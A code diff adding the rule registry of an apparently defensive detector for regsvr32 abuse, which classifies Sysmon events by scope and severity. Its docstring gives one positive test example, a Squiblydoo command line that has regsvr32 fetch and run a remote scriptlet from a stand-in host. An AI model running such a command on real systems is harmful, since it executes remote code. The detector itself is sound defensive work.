@@ -1,0 +1,161 @@
+"""The rule registry: each rule is declared once, with its metadata, next to its check.
+
+    @rule("R32-001", "Scriptlet run through scrobj.dll (Squiblydoo)", COMMAND_LINE, risk=85,
+          family="scriptlets_and_remote_payloads", techniques=(T,), sources=("L01", ...),
+          description="...", positives=("regsvr32 /s /i:http://x/a.sct scrobj.dll",),
+          negatives=("regsvr32 /s scrobj.dll",))
+    def squiblydoo(inv):
+        ...                     # the reason, naming the evidence, or None
+
+A rule's scope says what its check reads and which events it runs on, and the registry
+enforces it (the detector only calls a check on events of its scope):
+- COMMAND_LINE: the parsed command line (an Invocation) of a process whose image is regsvr32
+  (renamed copies included); the check gets the Invocation, nothing else, so its answer can be
+  remembered per command line.
+- actor(kinds): events of these kinds whose acting process is regsvr32; the check gets the Event.
+- child(): process creations whose parent is regsvr32; the check gets the Event.
+- any_event(kinds): every event of these kinds (persistence, COM registrations); the Event.
+
+Examples are data: a string is the command line of a regsvr32 process creation; a dict holds
+Sysmon fields, the rest filled from EXAMPLE_DEFAULTS for its event kind (None: absent). ``Rule.positives`` and
+``Rule.negatives`` are the complete events.
+"""
+from .families import FAMILIES_BY_KEY
+from .fields import (DNS, FILE, IMAGE_LOAD, KIND_BY_CODE, NETWORK, PERSISTENCE, PROCESS,
+                     REGISTRY, REMOTE_THREAD)
+
+KINDS = (PROCESS, NETWORK, IMAGE_LOAD, REMOTE_THREAD, FILE, REGISTRY, DNS, PERSISTENCE)
+
+# score -> severity: (lowest score, name), highest first. What each band means: README.
+SEVERITIES = ((80, "critical"), (60, "high"), (40, "medium"), (20, "low"), (1, "informational"),
+              (0, "none"))
+
+
+def severity_for(score):
+    for floor, name in SEVERITIES:
+        if score >= floor:
+            return name
+    return "none"
+
+
+class Scope(object):
+    """Which events a rule's check runs on, and what it reads."""
+
+    __slots__ = ("name", "kinds", "actor", "parent", "invocation")
+
+    def __init__(self, name, kinds, actor=False, parent=False, invocation=False):
+        self.name, self.kinds = name, tuple(kinds)
+        self.actor = actor              # the event's acting process must be regsvr32
+        self.parent = parent            # the event's parent process must be regsvr32
+        self.invocation = invocation    # the check reads only the parsed command line
+
+    def admits(self, kind, actor, parent):
+        return kind in self.kinds and (actor or not self.actor) and (parent or not self.parent)
+
+    def __repr__(self):
+        return "Scope(%s)" % self.name
+
+
+COMMAND_LINE = Scope("regsvr32's parsed command line", (PROCESS,), actor=True, invocation=True)
+
+
+def actor(*kinds):
+    return Scope("regsvr32's own %s events" % "/".join(kinds), kinds, actor=True)
+
+
+def child():
+    return Scope("processes started by regsvr32", (PROCESS,), parent=True)
+
+
+def any_event(*kinds):
+    return Scope("any %s event" % "/".join(kinds), kinds)
+
+
+class Rule(object):
+    __slots__ = ("id", "title", "description", "techniques", "risk", "sources", "scope",
+                 "family", "check", "positives", "negatives", "false_positives")
+
+    def __init__(self, id, title, scope, check, risk, family, techniques, sources, description,
+                 positives, negatives, false_positives=""):
+        self.id, self.title, self.description = id, title, description
+        self.scope, self.check, self.risk, self.family = scope, check, risk, family
+        self.techniques, self.sources = tuple(techniques), tuple(sources)
+        self.false_positives = false_positives
+        self.positives = tuple(example_event(scope, e) for e in positives)
+        self.negatives = tuple(example_event(scope, e) for e in negatives)
+
+    @property
+    def kinds(self):
+        return self.scope.kinds
+
+    @property
+    def severity(self):
+        return severity_for(self.risk)
+
+    def __repr__(self):
+        return "Rule(%s)" % self.id
+
+
+RULES_IN_ORDER = []       # as declared; RULES (below, by id) is built by finish()
+
+
+def rule(id, title, scope, risk, family, techniques, sources, description, positives, negatives,
+         false_positives=""):
+    """Declare the decorated function as the check of a rule (see the module docstring)."""
+    if family not in FAMILIES_BY_KEY:
+        raise ValueError("%s: unknown family %r" % (id, family))
+
+    def declare(check):
+        RULES_IN_ORDER.append(Rule(id, title, scope, check, risk, family, techniques, sources,
+                                   description, positives, negatives, false_positives))
+        return check
+    return declare
+
+
+# ---------------------------------------------------------------------------------------
+# Examples
+
+REGSVR32_PATH = "C:\\Windows\\System32\\regsvr32.exe"
+EXAMPLE_HOST = {"Computer": "WS01", "User": "CORP\\alice"}
+EXAMPLE_DEFAULTS = {
+    PROCESS: {"EventCode": "1", "Image": REGSVR32_PATH, "ParentImage": "C:\\Windows\\System32\\cmd.exe"},
+    IMAGE_LOAD: {"EventCode": "7", "Image": REGSVR32_PATH, "Signed": "true",
+                 "SignatureStatus": "Valid", "Signature": "Microsoft Windows"},
+    NETWORK: {"EventCode": "3", "Image": REGSVR32_PATH, "DestinationPort": "443",
+              "Initiated": "true"},
+    DNS: {"EventCode": "22", "Image": REGSVR32_PATH},
+    FILE: {"EventCode": "11", "Image": REGSVR32_PATH},
+    REGISTRY: {"EventCode": "13", "Image": REGSVR32_PATH},
+    REMOTE_THREAD: {"EventCode": "8", "SourceImage": REGSVR32_PATH},
+    PERSISTENCE: {"EventCode": "4698"},
+}
+
+
+def example_event(scope, example):
+    """The complete event an example stands for."""
+    if not isinstance(example, dict):
+        example = {"CommandLine": example}
+    code = example.get("EventCode")
+    kind = KIND_BY_CODE[code] if code else scope.kinds[0]
+    event = dict(EXAMPLE_HOST)
+    event.update(EXAMPLE_DEFAULTS[kind])
+    event.update(example)
+    return dict((k, v) for k, v in event.items() if v is not None)   # None: the field is absent
+
+
+# ---------------------------------------------------------------------------------------
+# The registry, once every rule is declared.
+
+def finish():
+    """(RULES by id, RULES_BY_ID, the rules to run for each (kind, actor, parent) of an event)."""
+    rules = tuple(sorted(RULES_IN_ORDER, key=lambda r: r.id))
+    by_id = dict((r.id, r) for r in rules)
+    if len(by_id) != len(rules):
+        raise ValueError("duplicate rule ids")
+    scoped = {}
+    for kind in KINDS:
+        for is_actor in (True, False):
+            for parent in (True, False):
+                scoped[kind, is_actor, parent] = tuple(
+                    r for r in rules if r.scope.admits(kind, is_actor, parent))
+    return rules, by_id, scoped
